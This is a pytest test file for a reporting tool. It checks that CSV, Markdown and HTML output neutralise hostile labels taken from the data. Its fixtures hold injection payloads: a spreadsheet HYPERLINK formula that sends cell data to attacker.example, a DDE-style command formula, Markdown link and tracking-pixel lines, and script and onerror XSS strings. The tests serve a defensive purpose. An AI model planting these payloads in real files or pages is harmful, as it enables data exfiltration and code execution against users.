"""Attack tests (issue 14, outputs): text that came from the data — theme labels, phrases,
role, cohort and session names — cannot run as a spreadsheet formula, open Markdown links,
images or raw HTML, break a Markdown table row, or inject HTML into report.html."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from markdown_it import MarkdownIt
from report_samples import sample_report

from reflect.report.formats.html import render_html
from reflect.report.formats.markdown import render_markdown
from reflect.report.formats.tables import render_breakdowns_csv, render_themes_csv

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "\tTAB",
    "\rCR",
]
MARKUP = [
    "[click me](http://attacker.example)",
    "![pixel](http://attacker.example/p.png)",
    '<img src=x onerror="alert(1)">',
    "<script>alert(1)</script>",
    "a | b | c",
    "**loud** _and_ `code`",
    "line one\nline two",
]


def _renamed(labels: list[str]):
    """The sample report with hostile strings as labels, phrases, role, cohort and session
    names (what a hand-typed export or a review file could put there)."""
    report = sample_report()
    n = len(labels)
    role, cohort, session = labels[0], labels[1 % n], labels[2 % n]

    def rekey(cells: dict, old: str, new: str) -> dict:
        return {new if key == old else key: value for key, value in cells.items()}

    themes = []
    for i, t in enumerate(report.themes):
        themes.append(
            replace(
                t,
                label=labels[i % n],
                phrases=[labels[(i + 1) % n], *t.phrases],
                by_role=rekey(t.by_role, "mentor", role),
                by_cohort=rekey(t.by_cohort, "Cohort A", cohort),
                by_session=rekey(t.by_session, "3", session),
            )
        )
    return replace(
        report,
        themes=themes,
        participants_by_role=rekey(report.participants_by_role, "mentor", role),
        participants_by_cohort=rekey(report.participants_by_cohort, "Cohort A", cohort),
        participants_by_session=rekey(report.participants_by_session, "3", session),
    )


@pytest.mark.parametrize("render", [render_themes_csv, render_breakdowns_csv])
def test_when_a_label_or_group_is_a_formula_then_no_csv_cell_starts_one(render):
    text = render(_renamed(FORMULAS))
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert any("HYPERLINK" in c for c in cells)  # the text is kept, as text
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []


def test_when_labels_carry_markdown_or_html_then_report_md_renders_them_as_text():
    md = render_markdown(_renamed(MARKUP))
    html = MarkdownIt("commonmark").enable("table").render(md)
    assert "<a " not in html and "<img" not in html and "<script" not in html
    assert "<strong>loud" not in html and "<code>" not in html
    # Every row of a table has as many cells as its header: no "|" broke out of a cell.
    parser = MarkdownIt("commonmark").enable("table")
    tokens = parser.parse(md)
    widths, row = [], 0
    for token in tokens:
        if token.type == "tr_open":
            row = 0
        elif token.type in ("th_open", "td_open"):
            row += 1
        elif token.type == "tr_close":
            widths.append(row)
        elif token.type == "table_close":
            assert len(set(widths)) == 1, widths
            widths = []
    assert "click me" in html and "onerror" in html  # shown, as text


def test_when_labels_carry_html_then_report_html_escapes_them():
    html = render_html(_renamed(MARKUP))
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;img src=x" in html or "&lt;img src=x".replace("=", "&#61;") in html
